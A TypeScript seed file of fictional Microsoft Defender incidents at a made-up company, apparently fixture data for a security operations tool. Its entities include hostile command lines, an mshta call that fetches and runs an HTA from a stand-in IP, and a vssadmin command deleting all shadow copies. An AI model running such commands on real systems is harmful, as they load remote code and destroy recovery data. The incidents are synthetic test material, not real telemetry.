import type { SeedIncident } from '../seed-incident.ts'
import { cloudWorkspace, europeWorkspace } from '../workspaces.ts'
import { maraLindqvist } from './analysts.ts'
import { account, file, fileHash, host, ip, link, mailbox, mailMessage, malware, processRun } from './entities.ts'

/**
 * Incidents of Microsoft Defender: they have no description in Sentinel. Eight tell their story in the alerts; the last
 * two have no alerts either, so that title, tactics and entities are all there is.
 */
export const defenderIncidents: readonly SeedIncident[] = [
  {
    workspace: europeWorkspace,
    id: 'a5000000-5eed-4a00-8000-000000000001',
    title: 'Multi-stage incident involving Initial access & Lateral movement on multiple endpoints',
    severity: 'High',
    provider: 'Microsoft XDR',
    products: ['Microsoft Defender for Endpoint', 'Microsoft Defender for Identity'],
    tactics: ['InitialAccess', 'Execution', 'LateralMovement'],
    techniques: ['T1566', 'T1059', 'T1021'],
    ageMinutes: 14,
    alerts: [
      {
        title: 'Script file from a mail archive was run',
        description:
          'On VIE-WS-0210 the user a.gruber opened Lieferschein_4471.zip and ran the script inside it. The script started mshta.exe with the address http://192.0.2.55/l.hta.',
        tactics: ['InitialAccess', 'Execution'],
        compromisedEntity: 'VIE-WS-0210',
        remediationSteps: ['Isolate VIE-WS-0210.', 'Search all mailboxes for the archive by its hash.'],
      },
      {
        title: 'Hands-on-keyboard activity over remote management',
        description:
          'Interactive commands were run on VIE-SRV-04 through a remote management session from VIE-WS-0210; the operator looked for backup software and network shares.',
        tactics: ['LateralMovement'],
        product: 'Microsoft Defender for Identity',
      },
    ],
    entities: [
      host('VIE-WS-0210'),
      host('VIE-SRV-04'),
      account('a.gruber@nordwerk.example'),
      file('C:\\Users\\a.gruber\\Downloads', 'Lieferschein_4471.zip'),
      fileHash('6dfd379acac9ae6e9fe9f38eb6e0777b50acb08bc4fa32a49efaba7138236e54'),
      processRun('mshta.exe http://192.0.2.55/l.hta', 8812),
      ip('192.0.2.55'),
    ],
  },
  {
    workspace: europeWorkspace,
    id: 'a5000000-5eed-4a00-8000-000000000002',
    title: 'Ransomware behaviour detected on one endpoint',
    severity: 'High',
    status: 'Active',
    provider: 'Microsoft XDR',
    tactics: ['Impact', 'DefenseEvasion'],
    techniques: ['T1486', 'T1490'],
    owner: maraLindqvist,
    labels: [{ labelName: 'attack-disruption', labelType: 'AutoAssigned' }],
    ageMinutes: 5,
    alerts: [
      {
        title: 'Files are being rewritten with a new extension',
        description:
          'A process on ROT-FS-01 rewrote 2,380 files in 90 seconds, gave them the extension .n0rd and left READ_TO_RESTORE.txt in each folder. The account was contained automatically.',
        compromisedEntity: 'ROT-FS-01',
      },
      {
        title: 'Shadow copies were deleted',
        description: 'vssadmin delete shadows ran on ROT-FS-01 one minute before the first rewritten file.',
        tactics: ['DefenseEvasion'],
      },
    ],
    entities: [
      host('ROT-FS-01'),
      account('NORDWERK\\svc-scan'),
      processRun('vssadmin.exe delete shadows /all /quiet', 2216),
      file('D:\\shares\\planning', 'READ_TO_RESTORE.txt'),
      malware('Ransomware, behaviour', 'Ransomware'),
    ],
  },
  {
    workspace: cloudWorkspace,
    id: 'a5000000-5eed-4a00-8000-000000000003',
    title: 'Email messages containing a malicious link removed after delivery',
    severity: 'Informational',
    provider: 'Microsoft Defender XDR',
    products: ['Microsoft Defender for Office 365'],
    tactics: ['InitialAccess'],
    techniques: ['T1566'],
    ageMinutes: 90,
    alerts: [
      {
        title: 'Messages removed after delivery',
        description:
          'Six messages with the subject "Parcel held at customs" were delivered at 07:14 and removed at 07:36, after their link was found to lead to a sign-in form. One recipient had opened the link before.',
        product: 'Microsoft Defender for Office 365',
      },
    ],
    entities: [
      mailbox('reception@nordwerk.example'),
      mailMessage('reception@nordwerk.example', 'notice@parcel-desk.example', 'Parcel held at customs'),
      link('https://parcel-desk.example/c/8Q2'),
    ],
  },
  {
    workspace: europeWorkspace,
    id: 'a5000000-5eed-4a00-8000-000000000004',
    title: 'Suspected golden ticket usage',
    severity: 'High',
    provider: 'Microsoft XDR',
    products: ['Microsoft Defender for Identity'],
    tactics: ['CredentialAccess', 'PrivilegeEscalation', 'LateralMovement'],
    techniques: ['T1558', 'T1550'],
    labels: ['tier-0'],
    ageMinutes: 20,
    alerts: [
      {
        title: 'Ticket with a lifetime beyond the policy',
        description:
          'A Kerberos ticket of the account NORDWERK\\adm-dc was used from STU-APP-11 for eleven hours, while the domain policy allows ten, and with an encryption type that the domain controllers no longer issue.',
        product: 'Microsoft Defender for Identity',
        compromisedEntity: 'STU-APP-11',
      },
    ],
    entities: [host('STU-APP-11'), host('STU-DC-01'), account('NORDWERK\\adm-dc')],
  },
  {
    workspace: cloudWorkspace,
    id: 'a5000000-5eed-4a00-8000-000000000005',
    title: 'Mass download by a single user',
    severity: 'Medium',
    provider: 'Microsoft XDR',
    products: ['Microsoft Defender for Cloud Apps'],
    tactics: ['Collection', 'Exfiltration'],
    techniques: ['T1213', 'T1530'],
    ageMinutes: 145,
    alerts: [
      {
        title: 'Unusual number of downloads',
        description:
          'The user t.moreau downloaded 3,600 documents of the site "Tenders 2026" within 25 minutes from the unmanaged device at 198.51.100.66. The same user usually opens about 20 documents a day.',
        product: 'Microsoft Defender for Cloud Apps',
      },
    ],
    entities: [account('t.moreau@nordwerk.example'), ip('198.51.100.66')],
  },
  {
    workspace: europeWorkspace,
    id: 'a5000000-5eed-4a00-8000-000000000006',
    title: 'Suspicious process injection observed',
    severity: 'Medium',
    provider: 'Microsoft XDR',
    tactics: ['DefenseEvasion', 'PrivilegeEscalation'],
    techniques: ['T1055'],
    ageMinutes: 66,
    alerts: [
      {
        title: 'Code was written into another process',
        description:
          'On MIL-NB-0077 a program started from a USB drive, setup_lang.exe, wrote executable memory into explorer.exe and started a thread there. The drive has the label "SERVICE".',
        compromisedEntity: 'MIL-NB-0077',
      },
    ],
    entities: [
      host('MIL-NB-0077'),
      account('g.romano@nordwerk.example'),
      file('E:\\', 'setup_lang.exe'),
      fileHash('37e8e484084d38a0eeddad5f8481202b4b3d9f3f5b274928c336a9a6d9f45f01'),
    ],
  },
  {
    workspace: europeWorkspace,
    id: 'a5000000-5eed-4a00-8000-000000000007',
    title: 'Unwanted software on one endpoint <b>PUA</b>',
    severity: 'Low',
    provider: 'Microsoft Defender XDR',
    tactics: ['Execution'],
    techniques: ['T1204'],
    ageMinutes: 420,
    alerts: [
      {
        title: 'Potentially unwanted application was blocked',
        description:
          'The installer pdf-merge-free.exe was blocked on LYO-WS-0312 before it started. It brings a browser extension that changes the search provider & sends visited addresses to its maker.',
      },
    ],
    entities: [host('LYO-WS-0312'), file('C:\\Users\\e.roux\\Downloads', 'pdf-merge-free.exe')],
  },
  {
    workspace: cloudWorkspace,
    id: 'a5000000-5eed-4a00-8000-000000000008',
    title: 'Anonymous IP address involving one user',
    severity: 'Medium',
    provider: 'Microsoft XDR',
    products: ['Microsoft Entra ID Protection'],
    tactics: ['InitialAccess', 'Reconnaissance'],
    techniques: ['T1078', 'T1589'],
    ageMinutes: 58,
    alerts: [
      {
        title: 'Sign-in from an anonymizing network',
        description:
          'The account q.nguyen signed in to the code review site from 203.0.113.222, an exit of an anonymizing network. The second factor was satisfied by a claim in the token; no new prompt was shown.',
        product: 'Microsoft Entra ID Protection',
      },
    ],
    entities: [account('q.nguyen@nordwerk.example'), ip('203.0.113.222')],
  },
  {
    workspace: europeWorkspace,
    id: 'a5000000-5eed-4a00-8000-000000000009',
    title: 'Connection to a custom network indicator on one endpoint',
    severity: 'Low',
    provider: 'Microsoft XDR',
    tactics: ['CommandAndControl'],
    techniques: ['T1071'],
    ageMinutes: 250,
    entities: [host('HAM-WS-0509'), ip('192.0.2.131')],
  },
  {
    workspace: cloudWorkspace,
    id: 'a5000000-5eed-4a00-8000-000000000010',
    title: 'Unusual resource deployment in one subscription',
    severity: 'Medium',
    provider: 'Microsoft Defender XDR',
    products: ['Microsoft Defender for Cloud'],
    tactics: ['ResourceDevelopment', 'Impact'],
    techniques: ['T1583', 'T1496'],
    ageMinutes: 175,
    entities: [account('id-lab-students@nordwerk.example')],
  },
]
